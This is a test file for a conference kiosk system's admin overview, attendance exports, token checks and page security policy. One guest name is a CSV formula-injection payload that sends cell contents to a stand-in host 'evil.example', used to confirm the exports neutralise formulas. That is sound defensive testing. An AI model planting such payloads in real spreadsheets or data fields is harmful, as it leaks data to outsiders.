import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attendanceRows as kioskAttendanceRows } from '../../../electron/core/roster/attendance.ts';
import { parseCsv } from '../../../shared/roster/csv.ts';
import { attendanceCsv } from '../../../shared/roster/export/files.ts';
import type { Overview } from '../../../server/store/attendance.ts';
import {
  adminGet,
  cluster,
  codeOf,
  guestIds,
  startTestServer,
  type TestKiosk,
  type TestServer,
} from '../../support/sync-server.ts';
import { must } from '../../support/call.ts';

/**
 * Issue 6's organisers' page on a real server with three real kiosks: the overview's numbers, the
 * attendance export (CSV and XLSX, through the kiosk's own writers), and the admin token on every route.
 */
let server: TestServer;
let eventId: string;
let kiosks: [TestKiosk, TestKiosk, TestKiosk];
const ids: string[] = [];
let duplicateGuest = '';
let voidedGuest = '';
let conflictGuest = '';
let liuId = '';
let evilId = '';
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

const fetchAdmin = (route: string, token: string | null = server.adminToken) =>
  fetch(`${server.url}${route}`, token === null ? {} : { headers: { authorization: `Bearer ${token}` } });

beforeAll(async () => {
  server = await startTestServer({ kind: 'pglite' });
  const made = await cluster(server, ['North', 'South', 'Forum hall']);
  eventId = made.eventId;
  kiosks = made.kiosks as [TestKiosk, TestKiosk, TestKiosk];
  const [a, b, c] = kiosks;
  ids.push(...guestIds(a, 20));
  const scan = (k: TestKiosk, guestId: string) => must(k.kiosk, 'guests.scan', { code: codeOf(k, guestId) });

  // Offline: 4 at North, 3 at South, 2 at the forum hall; one badge admitted at North and South (a
  // duplicate); one admitted at North and the forum hall, the hall's scan undone there.
  for (const id of ids.slice(0, 4)) expect(scan(a, id).status).toBe('checked_in');
  for (const id of ids.slice(4, 7)) expect(scan(b, id).status).toBe('checked_in');
  for (const id of ids.slice(7, 9)) expect(scan(c, id).status).toBe('checked_in');
  duplicateGuest = ids[10]!;
  expect(scan(a, duplicateGuest).status).toBe('checked_in');
  expect(scan(b, duplicateGuest).status).toBe('checked_in');
  voidedGuest = ids[11]!;
  expect(scan(a, voidedGuest).status).toBe('checked_in');
  const cv = scan(c, voidedGuest);
  must(c.kiosk, 'checkins.undo', { checkinId: cv.checkin!.id });
  // Walk-ins: a Chinese name, and a name crafted as a spreadsheet formula.
  liuId = must(b.kiosk, 'guests.walkIn', {
    name: '刘青',
    organization: '长三角国家技术创新中心',
    email: '',
    role: 'guest',
  }).guest!.id;
  evilId = must(c.kiosk, 'guests.walkIn', { name: EVIL_NAME, organization: '@SUM(1+1)', email: '', role: 'guest' })
    .guest!.id;
  // Concurrent forum reassignments of one guest at two doors (a conflict), and a forum room entry.
  conflictGuest = ids[0]!;
  must(a.kiosk, 'forums.assign', { guestId: conflictGuest, forumId: 'biomed', overrideReason: 'test' });
  must(b.kiosk, 'forums.assign', { guestId: conflictGuest, forumId: 'energy', overrideReason: 'test' });
  const entered = must(c.kiosk, 'forums.scan', {
    code: codeOf(c, ids[1]!),
    forumId: 'biomed',
    direction: 'in',
    admitAnyway: true,
  });
  expect(entered.status).toBe('entered');

  for (let round = 0; round < 2; round++) for (const k of kiosks) await k.kiosk.sync!.engine.syncOnce();
  for (const k of kiosks) expect(k.kiosk.sync!.engine.status().pending).toBe(0);
}, 120_000);

afterAll(async () => {
  for (const k of kiosks ?? []) k.kiosk.close();
  await server?.close();
});

describe('overview', () => {
  it('counts arrivals, doors, duplicates, conflicts and forums as the kiosks do', async () => {
    const o = await adminGet<Overview>(server, `/v1/admin/events/${eventId}/overview`);
    const [a, b, c] = kiosks;
    expect(o.eventId).toBe(eventId);
    // 4 + 3 + 2 scanned, the duplicate and the voided guest once each, two walk-ins.
    expect(o.stats.checkedIn).toBe(4 + 3 + 2 + 1 + 1 + 2);
    expect(o.stats.duplicates).toBe(1);
    expect(o.stats.voided).toBe(1);
    expect(o.stats.devices).toBe(3);

    const deviceOf = (k: TestKiosk) => must(k.kiosk, 'app.status', {}).device!.id;
    const door = (name: string) => o.doors.find((d) => d.door === name);
    expect(door('North')).toMatchObject({ deviceId: deviceOf(a), checkIns: 4 + 2 });
    expect(door('South')).toMatchObject({ deviceId: deviceOf(b), checkIns: 3 + 1 + 1 });
    expect(door('Forum hall')).toMatchObject({ deviceId: deviceOf(c), checkIns: 2 + 1 });
    expect(o.doors.reduce((n, d) => n + d.checkIns, 0)).toBe(o.stats.checkIns - o.stats.voided);

    expect(o.duplicates.map((d) => d.guestId)).toEqual([duplicateGuest]);
    expect(o.duplicates[0]!.checkins.map((ci) => ci.door).sort()).toEqual(['North', 'South']);
    const kioskDuplicates = must(a.kiosk, 'sync.conflicts', {}).duplicates;
    expect(o.duplicates[0]!.checkins.map((ci) => ci.factId)).toEqual(kioskDuplicates[0]!.checkins.map((ci) => ci.id));

    // The forum register's winner and loser, as on every kiosk.
    const kioskConflicts = must(a.kiosk, 'sync.conflicts', {}).forumConflicts;
    expect(o.forumConflicts.map((f) => f.guestId)).toEqual([conflictGuest]);
    expect(o.forumConflicts[0]!.winner.forumId).toBe(kioskConflicts[0]!.winner.forumId);
    expect(o.forumConflicts[0]!.losers.map((l) => l.forumId)).toEqual(kioskConflicts[0]!.losers.map((l) => l.forumId));

    const kioskForums = must(c.kiosk, 'forums.list', {}).forums;
    expect(o.forums).toEqual(
      kioskForums.map((f) => ({
        forumId: f.id,
        name: f.name.en,
        capacity: f.capacity,
        assigned: f.assigned,
        arrived: f.arrived,
        inside: f.inside,
      })),
    );
    expect(o.forums.find((f) => f.forumId === 'biomed')!.inside).toBe(1);

    expect(o.devices.map((d) => d.name).sort()).toEqual(['Forum hall', 'North', 'South']);
    for (const d of o.devices) {
      expect(d.revoked).toBe(false);
      expect(d.lastSyncMs).toBeGreaterThan(0);
      expect(d.ackedThrough).toBeGreaterThan(0);
    }
    expect(o.alerts).toEqual([]);
  });

  it('lists rejected events from the alerts table, newest first', async () => {
    const device = (await adminGet<Overview>(server, `/v1/admin/events/${eventId}/overview`)).devices[0]!.id;
    for (const [i, kind] of ['seq_conflict', 'id_reuse'].entries()) {
      await server.sql.query(
        `INSERT INTO alerts (conference_id, kind, device_id, fact_id, detail, created_ms) VALUES ($1, $2, $3, $4, $5, $6)`,
        [eventId, kind, device, `00000000-0000-4000-8000-00000000000${i}`, JSON.stringify({ deviceSeq: i }), i + 1],
      );
    }
    const o = await adminGet<Overview>(server, `/v1/admin/events/${eventId}/overview`);
    expect(o.alerts.map((x) => x.kind)).toEqual(['id_reuse', 'seq_conflict']);
    expect(o.alerts[0]).toMatchObject({ deviceId: device, detail: { deviceSeq: 1 } });
  });

  it('404s for an unknown event', async () => {
    expect((await fetchAdmin(`/v1/admin/events/nope/overview`)).status).toBe(404);
    expect((await fetchAdmin(`/v1/admin/events/nope/export?format=csv`)).status).toBe(404);
  });
});

describe('attendance export', () => {
  it('CSV: BOM, Chinese intact, scanned guests checked in, no formula, the same bytes as a kiosk writes', async () => {
    const response = await fetchAdmin(`/v1/admin/events/${eventId}/export?format=csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toContain(`attendance-${eventId}.csv`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(new TextDecoder().decode(bytes.subarray(3)), ',');
    const header = rows[0]!;
    const col = (name: string) => header.indexOf(name);
    const byId = new Map(rows.slice(1).map((r) => [r[col('Guest ID')]!, r]));
    for (const id of [...ids.slice(0, 9), duplicateGuest, voidedGuest, liuId, evilId]) {
      expect(byId.get(id)![col('Checked in')], id).toBe('yes');
    }
    expect(byId.get(ids[12]!)![col('Checked in')]).toBe('no');
    const liu = byId.get(liuId)!;
    expect(liu[col('Name')]).toBe('刘青');
    expect(liu[col('Organisation')]).toBe('长三角国家技术创新中心');
    expect(liu[col('Walk-in')]).toBe('yes');
    expect(liu[col('Door')]).toBe('South');
    expect(liu[col('First arrival')]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$/);
    const evil = byId.get(evilId)!;
    expect(evil[col('Name')]).toBe(`'${EVIL_NAME}`);
    expect(evil[col('Organisation')]).toBe(`'@SUM(1+1)`);
    const dup = byId.get(duplicateGuest)!;
    expect(dup[col('Check-ins')]).toBe('2');
    expect(dup[col('Duplicate check-ins (other doors)')]).toBe('1');
    expect(byId.get(voidedGuest)![col('Voided check-ins')]).toBe('1');
    expect(byId.get(voidedGuest)![col('Door')]).toBe('North');
    expect(byId.get(ids[1]!)![col('Sub-forums attended')]).toBe('biomed');

    // Every kiosk, synced, writes the very same file.
    for (const k of kiosks) {
      const kioskRows = kioskAttendanceRows(k.kiosk.db!, 'Asia/Shanghai', '');
      expect(Buffer.from(attendanceCsv(kioskRows)).equals(Buffer.from(bytes))).toBe(true);
    }
  });

  it('CSV filtered to a forum', async () => {
    const response = await fetchAdmin(`/v1/admin/events/${eventId}/export?format=csv&forum=biomed`);
    const rows = parseCsv(new TextDecoder().decode(new Uint8Array(await response.arrayBuffer()).subarray(3)), ',');
    const kioskRows = kioskAttendanceRows(kiosks[0].kiosk.db!, 'Asia/Shanghai', 'biomed');
    expect(rows.length - 1).toBe(kioskRows.length);
    expect(rows.slice(1).map((r) => r[0])).toContain(ids[1]!);
  });

  it('XLSX read back with ExcelJS: the Attendance sheet has every guest, no formulas', async () => {
    const response = await fetchAdmin(`/v1/admin/events/${eventId}/export?format=xlsx`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('content-disposition')).toContain(`attendance-${eventId}.xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(
      expect.arrayContaining(['Attendance', 'No-shows', 'Walk-ins', 'Summary']),
    );
    const sheet = wb.getWorksheet('Attendance')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => header.indexOf(name) + 1;
    const kioskRows = kioskAttendanceRows(kiosks[1].kiosk.db!, 'Asia/Shanghai', '');
    expect(sheet.rowCount).toBe(kioskRows.length + 1);
    const rows = new Map<string, ExcelJS.Row>();
    let formulas = 0;
    sheet.eachRow((row, n) => {
      if (n > 1) rows.set(String(row.getCell(col('Guest ID')).value), row);
      row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++));
    });
    expect(formulas).toBe(0);
    expect(rows.get(liuId)!.getCell(col('Name')).value).toBe('刘青');
    expect(rows.get(liuId)!.getCell(col('Checked in')).value).toBe('yes');
    expect(rows.get(liuId)!.getCell(col('First arrival')).value).toBeInstanceOf(Date);
    expect(rows.get(evilId)!.getCell(col('Name')).value).toBe(EVIL_NAME);
    expect(rows.get(duplicateGuest)!.getCell(col('Check-ins')).value).toBe(2);
    expect(rows.get(ids[12]!)!.getCell(col('Checked in')).value).toBe('no');
    const checkedIn = [...rows.values()].filter((r) => r.getCell(col('Checked in')).value === 'yes').length;
    expect(checkedIn).toBe(4 + 3 + 2 + 1 + 1 + 2);
    const summary = wb.getWorksheet('Summary')!;
    let summaryCheckedIn: unknown = null;
    summary.eachRow((row) => {
      if (row.getCell(1).value === 'Checked in') summaryCheckedIn = row.getCell(2).value;
    });
    expect(summaryCheckedIn).toBe(checkedIn);
  });

  it('refuses an unknown format', async () => {
    expect((await fetchAdmin(`/v1/admin/events/${eventId}/export?format=pdf`)).status).toBe(400);
  });
});

describe('admin token', () => {
  const routes = () => [
    `/v1/admin/events/${eventId}/overview`,
    `/v1/admin/events/${eventId}/export?format=csv`,
    `/v1/admin/events/${eventId}/export?format=xlsx`,
    `/v1/admin/qr?text=hello`,
  ];

  it('every data route answers 401 without it or with a wrong one', async () => {
    for (const route of routes()) {
      for (const token of [null, 'lya_wrong-token']) {
        const response = await fetchAdmin(route, token);
        expect(response.status, `${route} with ${token}`).toBe(401);
        expect(((await response.json()) as { error: { code: string } }).error.code).toBe('unauthorized');
      }
    }
  });

  it('the QR route renders an SVG data URL', async () => {
    const response = await fetchAdmin(`/v1/admin/qr?text=${encodeURIComponent('lanyard-pair:http://x#123')}`);
    const { svg } = (await response.json()) as { svg: string };
    expect(svg).toMatch(/^data:image\/svg\+xml;base64,/);
    expect(Buffer.from(svg.split(',')[1]!, 'base64').toString('utf8')).toContain('<svg');
  });
});

describe('the page', () => {
  it('is served at / and /admin with a strict CSP, its script and style from the same origin', async () => {
    for (const route of ['/', '/admin']) {
      const response = await fetch(`${server.url}${route}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/html/);
      const csp = response.headers.get('content-security-policy')!;
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain('unsafe-inline');
      const html = await response.text();
      expect(html).toContain('src="/admin.js"');
      expect(html).not.toMatch(/<script>|<style>|https?:\/\//);
    }
    const script = await fetch(`${server.url}/admin.js`);
    expect(script.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(await script.text()).toContain('/overview');
    // The page's script comes in three parts, each from this origin under the same policy.
    for (const part of ['/admin-core.js', '/admin-render.js']) {
      const response = await fetch(`${server.url}${part}`);
      expect(response.headers.get('content-type')).toMatch(/^text\/javascript/);
      expect(response.headers.get('content-security-policy')).toContain("script-src 'self'");
    }
    const style = await fetch(`${server.url}/admin.css`);
    expect(style.headers.get('content-type')).toMatch(/^text\/css/);
  });
});
